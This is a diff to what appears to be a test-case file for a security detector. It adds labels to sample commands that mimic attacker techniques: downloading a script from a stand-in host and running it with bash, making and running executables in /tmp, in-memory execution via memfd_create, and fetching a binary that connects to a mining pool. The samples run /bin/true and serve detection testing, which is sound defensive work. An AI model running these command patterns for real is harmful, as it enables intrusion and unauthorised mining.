@@ -25,6 +25,8 @@ curl -s -o /tmp/i.sh http://10.9.8.7:8000/true; bash /tmp/i.sh
 cp /bin/true /tmp/x; /tmp/x; rm -f /tmp/x
 ## Program in a scratch folder made executable, then run
 #also Executable run from a scratch folder
+#also File in a scratch folder made executable by hand
+#also Program put together by a shell or a text tool
 cat /bin/true > /tmp/x; chmod +x /tmp/x; /tmp/x
 ## File in memory made, then run
 #also Executable run from memory
@@ -37,6 +39,7 @@ fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.exec
 echo true > /tmp/x; /tmp/x; sh /tmp/x
 ## Set-user-id program made, then used
 #also Executable run from a scratch folder
+#also File in a scratch folder made executable by hand
 #also Program in a scratch folder made executable, then run
 #also Set-user-id bit or capability given to a file
 #also Set-user-id bit set in a scratch folder
@@ -81,6 +84,7 @@ remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
 #also Connection to a mining pool
 #also Downloaded file executed
 #also Executable run from a scratch folder
+#also File in a scratch folder made executable by hand
 #also Program in a scratch folder made executable, then run
 #setup web
 curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203.0.113.9 3333
